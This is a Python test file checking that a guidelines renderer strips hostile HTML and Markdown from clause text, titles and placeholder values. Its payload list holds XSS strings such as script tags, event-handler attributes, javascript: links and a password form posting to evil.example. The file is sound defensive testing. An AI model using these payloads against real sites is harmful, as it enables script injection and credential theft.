"""A guideline's text is authored, and still harmless: nothing outside the allow-list reaches the page."""

import json
from html.parser import HTMLParser
from pathlib import Path

import pytest

from courses.guidelines import clauses

HOSTILE = Path(__file__).resolve().parents[4] / "shared" / "hostile"
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<svg/onload=alert(1)>",
    '<div class="clause" id="G1.9" onclick="alert(1)">x</div>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</div></div><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '![x](x "onerror=alert(1)")',
    "<details open ontoggle=alert(1)>",
]
TAGS = {
    "a", "blockquote", "br", "code", "dd", "div", "dl", "dt", "em", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "title", "start", "class", "rel", "id"}


class Judge(HTMLParser):
    """Collects what a browser must not get."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith(("http:", "https:", "mailto:", "/", "#", "?")):
                scheme = (value or "").partition(":")
                self.found += [f"href {value}"] if scheme[1] and "/" not in scheme[0] else []


def judged(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.found


def corpus() -> list[str]:
    lines = []
    for name in ("xss_markdown.jsonl", "xss_html.jsonl"):
        if (HOSTILE / name).exists():
            lines += [json.loads(line)["input"] for line in (HOSTILE / name).read_text(encoding="utf-8").splitlines()]
    return OWN + lines


def in_clause(text: str) -> str:
    return f"### G1.1 Protect\n\n{text}\n\n### G1.2 Be open\n\nText.\n"


def test_hostile_text_in_a_clause_is_harmless() -> None:
    texts = [text for text in corpus() if len(text) < 20_000]
    found = {}
    for text, html in zip(texts, clauses.render([in_clause(text) for text in texts], {}), strict=True):
        if problems := judged(html):
            found[text] = problems
        assert html.count('<p class="clause-number">2</p>') == 1
    assert not found


def test_control_the_same_text_unsanitized_is_not() -> None:
    assert sum(bool(judged(text)) for text in OWN) >= 9


@pytest.mark.parametrize("title", OWN)
def test_hostile_titles_are_plain_text(title: str) -> None:
    (html,) = clauses.render([f"### G1.1 {title}\n\nText.\n\n### {title}\n\nText.\n"], {})
    assert not judged(html)


def test_placeholder_values_are_plain_text() -> None:
    (html,) = clauses.render([in_clause("Ask {{legal_contact}}.")], {"legal_contact": "<script>alert(1)</script>"})
    assert not judged(html)
    assert "&lt;script&gt;" in html
